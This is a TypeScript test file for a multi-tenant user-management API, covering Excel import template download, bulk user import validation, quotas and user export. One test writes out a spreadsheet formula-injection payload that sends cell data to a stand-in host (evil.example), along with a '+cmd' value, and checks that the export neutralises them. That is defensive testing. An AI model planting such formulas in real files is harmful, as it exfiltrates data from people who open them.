import { randomBytes } from 'node:crypto';
import { and, count, eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { md5 } from '../../core/auth/md5.ts';
import { newId } from '../../core/db/ids.ts';
import { dept, param, post, tenant, user } from '../../db/schema/index.ts';
import { createRole, createTenant, createUser } from '../../test/fixtures.ts';
import { BASIC, startTestApp, type TestApp } from '../../test/harness.ts';

let t: TestApp;
let admin: string;
let teacher: string;
let otherAdmin: string;
let teacherRole: string;
let deptId: string;
const base = '/api/blade-user';
const T = '830001';
const ZH_HEADER = ['账号', '昵称', '姓名', '手机号码', '邮箱', '性别', '生日', '角色别名', '部门名称', '岗位编号'];
const EN_HEADER = [
  'Account',
  'Nickname',
  'Real name',
  'Phone',
  'E-mail',
  'Sex',
  'Birthday',
  'Role aliases',
  'Department name',
  'Post code',
];

async function xlsx(rows: (string | number | Date)[][], header = ZH_HEADER): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const sheet = wb.addWorksheet('用户');
  sheet.addRow(header);
  for (const r of rows) sheet.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

async function readXlsx(body: Buffer): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ExcelJS.Buffer);
  return wb.worksheets[0]!;
}

const values = (sheet: ExcelJS.Worksheet, row: number) =>
  (sheet.getRow(row).values as unknown[]).slice(1).map((v) => (v === undefined || v === null ? '' : v));

function upload(token: string | null, file: Buffer, opts: { query?: Record<string, string>; lang?: string } = {}) {
  const boundary = `----shixun${Math.random().toString(16).slice(2)}`;
  const payload = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="users.xlsx"\r\n` +
        'Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n\r\n',
    ),
    file,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const headers: Record<string, string> = { 'content-type': `multipart/form-data; boundary=${boundary}` };
  if (token) headers['blade-auth'] = `bearer ${token}`;
  if (opts.lang) headers['accept-language'] = opts.lang;
  return t.app.inject({ method: 'POST', url: `${base}/import-user`, query: opts.query, headers, payload });
}

const row = (account: string, extra: Partial<Record<number, string>> = {}) => {
  const r = [
    account,
    account,
    `用户${account}`,
    '13800138000',
    `${account}@school.cn`,
    '女',
    '2001-02-03',
    'staff',
    '机电工程系',
    'T01',
  ];
  for (const [i, v] of Object.entries(extra)) r[Number(i)] = v!;
  return r;
};

const usersIn = async (tenantId: string) =>
  (
    await t.db
      .select({ n: count() })
      .from(user)
      .where(and(eq(user.tenantId, tenantId), eq(user.isDeleted, 0)))
  )[0]!.n;

const signIn = (account: string, plain: string) =>
  t.app.inject({
    method: 'POST',
    url: '/api/blade-auth/oauth/token',
    headers: { authorization: BASIC },
    query: { tenantId: T, username: account, password: md5(plain), grant_type: 'password' },
  });

beforeAll(async () => {
  t = await startTestApp();
  await createTenant(t.db, T);
  const codes = ['user_view', 'user_add', 'user_edit', 'user_import', 'user_export', 'post_view'];
  const adminRole = await createRole(t.db, T, 'admin', codes);
  teacherRole = await createRole(t.db, T, 'staff', ['post_view']);
  await createUser(t.db, { tenantId: T, account: 'admin', password: 'tenant-pw', roleIds: [adminRole] });
  await createUser(t.db, { tenantId: T, account: 'teacher', password: 'teacher-pw', roleIds: [teacherRole] });
  admin = (await t.login('admin', 'tenant-pw', T)).access_token;
  teacher = (await t.login('teacher', 'teacher-pw', T)).access_token;
  deptId = newId();
  await t.db.insert(dept).values({ id: deptId, tenantId: T, deptName: '机电工程系' });
  await t.db.insert(post).values({ id: newId(), tenantId: T, postCode: 'T01', postName: '教师' });
  await createTenant(t.db, '830002');
  const other = await createRole(t.db, '830002', 'admin', codes);
  await createRole(t.db, '830002', 'principal', []);
  await createUser(t.db, { tenantId: '830002', account: 'admin', password: 'tenant-pw', roleIds: [other] });
  await createUser(t.db, { tenantId: '830002', account: 'secret-guy', password: 'x-pw', roleIds: [other] });
  otherAdmin = (await t.login('admin', 'tenant-pw', '830002')).access_token;
});
afterAll(() => t.close());

describe('export-template', () => {
  it('is an xlsx with the header in the caller’s language and one example row, named for both kinds of client', async () => {
    const res = await t.as(admin, { method: 'GET', url: `${base}/export-template` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="user-import-template.xlsx"; filename*=UTF-8''${encodeURIComponent('用户导入模板.xlsx')}`,
    );
    const sheet = await readXlsx(res.rawPayload);
    expect(values(sheet, 1)).toEqual(ZH_HEADER);
    expect(values(sheet, 2)[0]).toBe('zhangsan');
    expect(sheet.actualRowCount).toBe(2);

    const en = await t.as(admin, {
      method: 'GET',
      url: `${base}/export-template`,
      headers: { 'accept-language': 'en' },
    });
    expect(values(await readXlsx(en.rawPayload), 1)).toEqual(EN_HEADER);
    expect(en.headers['content-disposition']).toContain("filename*=UTF-8''user-import-template.xlsx");
  });

  it('401 without a token, 403 without user_import', async () => {
    expect((await t.app.inject({ method: 'GET', url: `${base}/export-template` })).statusCode).toBe(401);
    expect((await t.as(teacher, { method: 'GET', url: `${base}/export-template` })).statusCode).toBe(403);
  });
});

describe('import-user', () => {
  it('imports 200 valid rows in one go with the configured initial password', async () => {
    await t.db
      .insert(param)
      .values({ id: newId(), paramName: '初始密码', paramKey: 'account.initPassword', paramValue: 'Welcome-2026' });
    try {
      const before = await usersIn(T);
      const rows = Array.from({ length: 200 }, (_, i) => row(`stu${String(i).padStart(3, '0')}`));
      const res = await upload(admin, await xlsx(rows));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().data).toEqual({ inserted: 200, updated: 0, passwords: [] });
      expect(await usersIn(T)).toBe(before + 200);
      const detail = await t.as(admin, { method: 'GET', url: `${base}/page`, query: { account: 'stu199' } });
      expect(detail.json().data.records[0]).toMatchObject({
        realName: '用户stu199',
        sex: 2,
        birthday: '2001-02-03T00:00:00.000Z',
        roleIds: [teacherRole],
        deptName: '机电工程系',
        postName: '教师',
        tenantId: T,
      });
      expect((await signIn('stu042', 'Welcome-2026')).statusCode).toBe(200);
    } finally {
      await t.db.delete(param).where(eq(param.paramKey, 'account.initPassword'));
    }
  });

  it('without an initial password gives each new account a random one, returned once', async () => {
    const res = await upload(admin, await xlsx([row('rand1'), row('rand2')]));
    const { passwords } = res.json().data;
    expect(passwords.map((p: { account: string }) => p.account)).toEqual(['rand1', 'rand2']);
    expect(passwords[0].password).not.toBe(passwords[1].password);
    expect((await signIn('rand2', passwords[1].password)).statusCode).toBe(200);
  });

  it('a duplicate account inside the file imports nothing and names the rows', async () => {
    const before = await usersIn(T);
    const res = await upload(admin, await xlsx([row('dupa'), row('dupb'), row('dupa')]));
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: 400, success: false, msg: '1 行数据有误，未导入任何数据' });
    expect(res.json().data).toEqual([{ row: 4, field: 'account', message: '与第 2 行的账号重复' }]);
    expect(await usersIn(T)).toBe(before);
  });

  it('an account already in the database imports nothing, unless isCovered=1 updates it', async () => {
    const before = await usersIn(T);
    const file = await xlsx([row('newcomer'), row('teacher', { 2: '改过的名字' })]);
    const res = await upload(admin, file);
    expect(res.statusCode).toBe(400);
    expect(res.json().data).toEqual([{ row: 3, field: 'account', message: '该账号已存在' }]);
    expect(await usersIn(T)).toBe(before);

    const covered = await upload(admin, file, { query: { isCovered: '1' } });
    expect(covered.statusCode, covered.body).toBe(200);
    expect(covered.json().data).toMatchObject({ inserted: 1, updated: 1 });
    const [updated] = await t.db
      .select()
      .from(user)
      .where(and(eq(user.tenantId, T), eq(user.account, 'teacher')));
    expect(updated).toMatchObject({ realName: '改过的名字', deptId });
    // Covering never touches the password.
    expect((await signIn('teacher', 'teacher-pw')).statusCode).toBe(200);
  });

  it('checks every row with the form’s rules and the tenant’s roles, depts and posts, in the caller’s language', async () => {
    const strong = await createRole(t.db, T, 'strong', ['param', 'param_add']);
    expect(strong).toBeTruthy();
    const file = await xlsx([
      row('ok1'),
      row('bad phone', { 3: '12345' }),
      row('r3', { 7: 'staff,principal', 8: '不存在系', 9: 'NOPE' }),
      row('r4', { 5: '不详', 4: 'not-mail', 6: '2001-13-45' }),
      row('r5', { 7: 'strong', 2: '' }),
      row('r6', { 7: '' }),
    ]);
    const res = await upload(admin, file, { lang: 'en' });
    expect(res.statusCode).toBe(400);
    expect(res.json().msg).toBe('5 rows have errors; nothing was imported');
    expect(res.json().data).toEqual([
      { row: 3, field: 'account', message: 'The account may contain only letters, digits and _ . @ -' },
      { row: 3, field: 'phone', message: 'The phone number must have 11 digits' },
      { row: 3, field: 'email', message: 'The e-mail address is not valid' },
      { row: 4, field: 'roleAliases', message: 'Role alias principal does not exist' },
      { row: 4, field: 'deptName', message: 'Department 不存在系 does not exist' },
      { row: 4, field: 'postCode', message: 'Post code NOPE does not exist' },
      { row: 5, field: 'sex', message: 'Sex must be Male, Female or Unknown' },
      { row: 5, field: 'email', message: 'The e-mail address is not valid' },
      { row: 5, field: 'birthday', message: 'Birthday is not valid' },
      { row: 6, field: 'roleAliases', message: 'You cannot grant menus or buttons you do not hold yourself' },
      { row: 6, field: 'realName', message: 'Please enter the real name' },
      { row: 7, field: 'roleAliases', message: 'Please choose the roles' },
    ]);
    const [ok1] = await t.db.select().from(user).where(eq(user.account, 'ok1'));
    expect(ok1).toBeUndefined();
  });

  it('refuses a renamed file that is not an xlsx, a broken zip, a foreign header, an empty sheet and a huge upload', async () => {
    const msg = async (file: Buffer) => (await upload(admin, file)).json().msg;
    expect(await msg(Buffer.from('account,name\nzhangsan,张三\n'))).toBe('请上传 .xlsx 格式的 Excel 文件');
    expect(await msg(Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200, 7)]))).toBe(
      '请上传 .xlsx 格式的 Excel 文件',
    );
    expect(await msg(await xlsx([row('x')], ['a', 'b']))).toBe('表头与导入模板不一致，请下载模板后填写');
    expect(await msg(await xlsx([]))).toBe('文件中没有要导入的数据');
    const huge = Buffer.concat([await xlsx([row('x')]), Buffer.alloc(6 * 1024 * 1024)]);
    const res = await upload(admin, huge);
    expect(res.statusCode).toBe(400);
    expect(res.json().msg).toBe('文件不能超过 5 MB');
    expect((await upload(admin, await xlsx([row('x')]), { query: { isCovered: 'yes' } })).statusCode).toBe(400);
    const none = await t.as(admin, { method: 'POST', url: `${base}/import-user`, payload: {} });
    expect(none.json().msg).toBe('请选择要导入的文件');
  });

  it('keeps the tenant account quota for the file as a whole', async () => {
    await createTenant(t.db, '830004');
    const r = await createRole(t.db, '830004', 'admin', ['user_import']);
    await createUser(t.db, { tenantId: '830004', account: 'admin', password: 'tenant-pw', roleIds: [r] });
    await t.db.update(tenant).set({ accountNumber: 3 }).where(eq(tenant.tenantId, '830004'));
    const small = (await t.login('admin', 'tenant-pw', '830004')).access_token;
    const three = await xlsx(['q1', 'q2', 'q3'].map((a) => row(a, { 7: 'admin', 8: '', 9: '' })));
    const res = await upload(small, three);
    expect(res.statusCode).toBe(400);
    expect(res.json().msg).toBe('租户账号数已达上限');
    expect(await usersIn('830004')).toBe(1);
    expect((await upload(small, await xlsx([row('q1', { 7: 'admin', 8: '', 9: '' })]))).statusCode).toBe(200);
  });

  it('reads a file of a few megabytes: the upload limit is the import’s own, not the JSON body limit', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('用户').addRows([ZH_HEADER, row('bigfile')]);
    const filler = wb.addWorksheet('备注');
    for (let i = 0; i < 3000; i++) filler.addRow(Array.from({ length: 10 }, () => randomBytes(75).toString('base64')));
    const file = Buffer.from(await wb.xlsx.writeBuffer());
    expect(file.length).toBeGreaterThan(2 * 1024 * 1024);
    const res = await upload(admin, file);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().data.inserted).toBe(1);
  });

  it('401 without a token, 403 without user_import; roles of another tenant do not exist here', async () => {
    const file = await xlsx([row('visitor', { 7: 'principal' })]);
    expect((await upload(null, file)).statusCode).toBe(401);
    expect((await upload(teacher, file)).statusCode).toBe(403);
    const res = await upload(admin, file);
    expect(res.json().data).toEqual([{ row: 2, field: 'roleAliases', message: '角色别名 principal 不存在' }]);
    const theirs = await upload(otherAdmin, await xlsx([row('visitor', { 7: 'principal', 8: '', 9: '' })]));
    expect(theirs.statusCode, theirs.body).toBe(200);
    const [created] = await t.db.select().from(user).where(eq(user.account, 'visitor'));
    expect(created!.tenantId).toBe('830002');
  });
});

describe('export-user', () => {
  it('exports the page’s filtered, tenant-scoped users without credentials, and re-imports cleanly', async () => {
    await createUser(t.db, { tenantId: T, account: 'exp1', password: 'p', roleIds: [teacherRole] });
    const res = await t.as(admin, { method: 'GET', url: `${base}/export-user`, query: { account: 'exp' } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['content-disposition']).toContain('filename="users.xlsx"');
    const sheet = await readXlsx(res.rawPayload);
    expect(values(sheet, 1)).toEqual([...ZH_HEADER, '状态']);
    expect(values(sheet, 2)).toEqual(['exp1', 'exp1', 'exp1', '', '', '未知', '', 'staff', '', '', '启用']);
    expect(sheet.actualRowCount).toBe(2);

    const all = await readXlsx(
      (await t.as(admin, { method: 'GET', url: `${base}/export-user`, query: { account: 'a' } })).rawPayload,
    );
    const text = JSON.stringify(all.getSheetValues());
    expect(text).not.toMatch(/argon2|password|密码/i);
    expect(text).not.toContain('secret-guy');
    expect(text).toContain('admin');

    // What was exported goes back in with isCovered=1: same columns, same words.
    const again = await upload(admin, res.rawPayload, { query: { isCovered: '1' } });
    expect(again.json().data).toMatchObject({ inserted: 0, updated: 1 });
  });

  it('neutralises cells that a spreadsheet would run as formulas', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
    const created = await t.as(admin, {
      method: 'POST',
      url: `${base}/submit`,
      payload: { account: 'formula', password: md5('x'), name: '+cmd', realName: hostile, roleIds: [teacherRole] },
    });
    expect(created.statusCode, created.body).toBe(200);
    const res = await t.as(admin, { method: 'GET', url: `${base}/export-user`, query: { account: 'formula' } });
    const sheet = await readXlsx(res.rawPayload);
    const cell = sheet.getRow(2).getCell(3);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(`'${hostile}`);
    expect(sheet.getRow(2).getCell(2).value).toBe("'+cmd");
  });

  it('401, 403 without user_export, 400 on a bad filter, and 400 past the row limit', async () => {
    expect((await t.app.inject({ method: 'GET', url: `${base}/export-user` })).statusCode).toBe(401);
    expect((await t.as(teacher, { method: 'GET', url: `${base}/export-user` })).statusCode).toBe(403);
    const bad = await t.as(admin, { method: 'GET', url: `${base}/export-user`, query: { deptId: 'x' } });
    expect(bad.statusCode).toBe(400);

    await createTenant(t.db, '830003');
    const r = await createRole(t.db, '830003', 'admin', ['user_export']);
    await createUser(t.db, { tenantId: '830003', account: 'admin', password: 'tenant-pw', roleIds: [r] });
    await t.db.execute(
      sql`insert into ${user} (id, tenant_id, account, password_hash)
          select 900000000000 + g, '830003', 'bulk' || g, 'x' from generate_series(1, 10000) g`,
    );
    const big = (await t.login('admin', 'tenant-pw', '830003')).access_token;
    const res = await t.as(big, { method: 'GET', url: `${base}/export-user` });
    expect(res.statusCode).toBe(400);
    expect(res.json().msg).toBe('导出数据超过 10000 条，请缩小查询范围');
    const narrowed = await t.as(big, { method: 'GET', url: `${base}/export-user`, query: { account: 'bulk999' } });
    expect(narrowed.statusCode).toBe(200);
  });
});
